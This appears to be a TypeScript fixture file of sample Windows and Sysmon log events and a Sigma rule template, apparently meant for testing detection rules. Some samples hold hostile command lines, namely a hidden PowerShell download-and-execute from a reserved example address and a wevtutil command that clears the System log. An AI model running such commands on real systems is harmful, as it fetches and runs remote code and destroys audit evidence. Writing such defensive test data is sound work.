// Events to try rules on. Names and addresses are those that are reserved for examples.

export interface Sample {
  name: string;
  event: string;
}

const event = (fields: Record<string, unknown>): string => JSON.stringify(fields, null, 2);

export const SAMPLES: Sample[] = [
  {
    name: "PowerShell that runs code from the network",
    event: event({
      EventTime: "2026-11-21 15:13:24",
      Hostname: "SRV-FILE-02.corp.example",
      Channel: "Microsoft-Windows-Sysmon/Operational",
      EventID: 1,
      Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      CommandLine:
        "powershell.exe -w hidden -c $w=New-Object System.Net.WebClient;iex $w.DownloadString('http://203.0.113.110:8080/a.txt')",
      ParentImage: "C:\\Windows\\System32\\wbem\\scrcons.exe",
      User: "NT AUTHORITY\\SYSTEM",
    }),
  },
  {
    name: "Encoded command of the lab",
    event: event({
      event_type: "process_start",
      timestamp: "2026-11-21T10:00:00Z",
      host: "ws-017",
      user: "demo",
      source_ip: "192.0.2.17",
      command_line: "powershell -EncodedCommand aQBlAHgA",
    }),
  },
  {
    name: "Refused logon from a public address",
    event: event({
      EventTime: "2026-11-21 10:39:56",
      Hostname: "DC-02.corp.example",
      Channel: "Security",
      EventID: 4625,
      TargetUserName: "mkt-01",
      TargetDomainName: "CORP",
      LogonType: 3,
      IpAddress: "192.0.2.46",
      Status: "0xc000006d",
    }),
  },
  {
    name: "Event log cleared",
    event: event({
      EventTime: "2026-11-21 12:01:10",
      Hostname: "WS-104.corp.example",
      Channel: "Microsoft-Windows-Sysmon/Operational",
      EventID: 1,
      Image: "C:\\Windows\\System32\\wevtutil.exe",
      CommandLine: "wevtutil.exe cl System",
      User: "CORP\\adm-04",
    }),
  },
  {
    name: "Nothing wrong: a text editor",
    event: event({
      EventTime: "2026-11-21 09:12:00",
      Hostname: "WS-104.corp.example",
      Channel: "Microsoft-Windows-Sysmon/Operational",
      EventID: 1,
      Image: "C:\\Windows\\System32\\notepad.exe",
      CommandLine: '"C:\\Windows\\System32\\notepad.exe" C:\\Users\\fin-06\\Documents\\notes.txt',
      ParentImage: "C:\\Windows\\explorer.exe",
      User: "CORP\\fin-06",
    }),
  },
  {
    name: "No event at all: broken JSON",
    event: '{"event_type": "process_start", "command_line": "powershell',
  },
];

export const RULE_TEMPLATE = `title: Shell Started by a Web Server
id: 00000000-0000-4000-8000-000000000001
status: experimental
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    ParentImage|endswith: '\\w3wp.exe'
    Image|endswith:
      - '\\cmd.exe'
      - '\\powershell.exe'
  condition: selection
level: high
tags:
  - attack.persistence
  - attack.t1505.003
`;
